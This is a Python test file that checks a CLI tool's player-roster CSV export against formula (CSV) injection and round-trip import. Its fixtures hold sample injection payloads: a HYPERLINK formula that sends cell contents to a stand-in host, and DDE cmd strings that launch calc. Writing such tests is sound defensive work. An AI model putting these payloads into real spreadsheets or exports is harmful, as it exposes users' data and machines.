"""Exported players CSV is safe in a spreadsheet and imports back unchanged (OWASP CSV
injection: cells starting with = + - @ tab or CR)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from cli_runner_helpers import Courtside
from courtside.reference.players import (
    Player,
    PlayersTable,
    csv_escape,
    csv_unescape,
    load_players,
    save_players,
)

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    Player("evil1", '=HYPERLINK("http://x.example/?"&A1,"click")', "Team A"),
    Player("evil2", "+cmd|' /C calc'!A0", "-2+3"),
    Player("evil3", "@SUM(1+1)*cmd|' /C calc'!A0", "Team B"),
    Player("evil4", "'=already quoted", "''+twice"),
    Player("plain", "O'Neal", "Team C"),
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_exported_cell_starts_like_a_formula() -> None:
    text = PlayersTable(HOSTILE).to_csv_text()
    for cell in _cells(text):
        assert not cell.startswith(DANGEROUS), cell
    assert "'=HYPERLINK" in text and "O'Neal" in text


def test_export_then_import_gives_back_the_same_table(tmp_path: Path) -> None:
    table = PlayersTable(HOSTILE)
    again = PlayersTable.from_csv_text(table.to_csv_text())
    assert list(again) == list(table)
    save_players(tmp_path, table)  # the home's own file is the exported form
    assert list(load_players(tmp_path)) == HOSTILE


@given(st.text(alphabet=st.sampled_from("=+-@'\t\rab c"), max_size=12))
def test_escape_round_trips_and_is_inert(value: str) -> None:
    escaped = csv_escape(value)
    assert csv_unescape(escaped) == value
    assert not escaped.startswith(DANGEROUS)


def test_cli_round_trip_through_standard_output_and_input(
    courtside: Courtside, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    courtside("init", home=home, cwd=tmp_path)
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(PlayersTable(HOSTILE).to_csv_text())
    courtside("players", "import", str(hostile), home=home, cwd=tmp_path)
    out = courtside("players", "export", "-", home=home, cwd=tmp_path).stdout
    assert not (tmp_path / "-").exists(), "'-' means standard output, not a file"
    assert out.decode() == PlayersTable(HOSTILE).to_csv_text()
    assert courtside("players", "export", home=home, cwd=tmp_path).stdout == out
    courtside("players", "import", "-", home=home, cwd=tmp_path, stdin=out)
    assert list(load_players(home)) == HOSTILE


def test_init_writes_the_default_roster_into_the_home(courtside: Courtside, tmp_path: Path) -> None:
    home = tmp_path / "home"
    courtside("init", home=home, cwd=tmp_path)
    path = home / "reference" / "players.csv"
    assert path.is_file()
    assert list(PlayersTable.from_csv(path)) == list(PlayersTable.default())
